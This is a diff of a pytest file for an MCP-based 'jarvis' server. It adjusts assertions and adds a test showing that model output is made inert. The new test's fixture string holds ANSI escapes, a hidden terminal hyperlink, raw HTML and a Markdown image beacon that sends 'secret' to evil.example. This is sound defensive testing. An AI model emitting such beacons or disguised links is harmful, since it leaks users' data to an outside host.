@@ -15,6 +15,7 @@ import pytest
 from mcp import ClientSession, types
 from mcp.client.streamable_http import streamable_http_client
 
+from jarvis.frontends.safe_text import address, model_text
 from tests.fakes.llm_server import ScriptedLLM
 from tests.helpers import config_for, plan_json
 from tests.test_hardening_server import api
@@ -114,8 +115,8 @@ def test_jarvis_answers_an_image_sent_as_a_data_url_with_image_audio_and_progres
         said, workflow = texts(result)
         links = {c.mimeType: c for c in result.content if isinstance(c, types.ResourceLink)}
         assert set(links) == {"image/png", "audio/wav"}
-        # the answer, then the links of the files it did not name
-        assert said == "\n".join([answer, "", str(links["image/png"].uri), str(links["audio/wav"].uri)])
+        # the answer, then the links of the files it did not name (their full addresses shown)
+        assert said == "\n".join([answer, "", address(str(links["image/png"].uri)), address(str(links["audio/wav"].uri))])
         assert "task 0 object-detection with hustvl/yolos-tiny on local: done" in workflow
         assert "task 2 text-to-speech with facebook/mms-tts-eng on local: done" in workflow
         images = [c for c in result.content if isinstance(c, types.ImageContent)]
@@ -197,7 +198,8 @@ def test_hosts_that_plan_themselves_list_task_types_and_models_and_run_one_task(
         assert not result.isError, texts(result)
         record = result.structuredContent
         assert record["status"] == "done" and record["executor"] == "local" and record["model"] == CAPTIONER
-        assert texts(result)[0] == record["outputs"]["text"] == record["detail"]["caption"]
+        assert texts(result)[0] == model_text(record["outputs"]["text"]) and record["outputs"]["text"] == \
+            record["detail"]["caption"]
         assert progress[0] == "plan ready: 1 task(s): 0 image-to-text"
         result, _ = call(site.url, "run_task", {"task": "image-to-text", "model": "someone/else", "files": [
             data_url(STREET)]})
@@ -218,3 +220,16 @@ def test_the_api_alone_serves_mcp_too():
         assert mcp(live.url, work, token="tok-alice") == ["jarvis", "list_task_types", "list_models", "run_task"]
         with pytest.raises(Exception):
             mcp(live.url, work, token="tok-mallory")
+
+
+def test_model_output_comes_back_as_inert_text(catalog):
+    """An answer with escape sequences, a hyperlink hiding its address, raw HTML and a remote Markdown
+    image: the agent's host, which renders a tool's text as Markdown, gets text that loads nothing."""
+    hostile = ("Done. \x1b[31mred\x1b[0m \x1b]8;;https://evil.example/x\x1b\\click\x1b]8;;\x1b\\ "
+               "<img src=https://evil.example/i.png> ![beacon](https://evil.example/p.png?c=secret)")
+    with ScriptedLLM(plan="[]", chat=hostile, key="sk-server") as llm, web(settings(llm.url, catalog)) as site:
+        result, _ = call(site.url, "jarvis", {"request": "hello"})
+    assert not result.isError
+    [said] = texts(result)
+    assert "\x1b" not in said and "<img" not in said and "![" not in said
+    assert "&lt;img src=" in said and "🖼️ beacon ([`https://evil.example/p.png?c=secret`]" in said
